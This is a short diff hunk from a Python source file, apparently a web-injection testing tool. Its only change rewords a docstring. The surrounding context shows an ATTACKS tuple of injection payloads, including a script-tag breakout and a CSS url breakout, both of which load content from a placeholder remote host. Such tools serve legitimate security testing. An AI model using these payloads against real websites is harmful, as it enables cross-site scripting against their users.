@@ -17,7 +17,7 @@ ATTACKS = (
     """"'><script src={there}d></script><!--""",
     """'); } * { background: url({there}e) } --></""",
 )
-"""What is tried at the end of each value, the first that is taken."""
+"""The endings to try for each value, of which the first that is accepted is used."""
 
 
 class _Loader(yaml.SafeLoader):
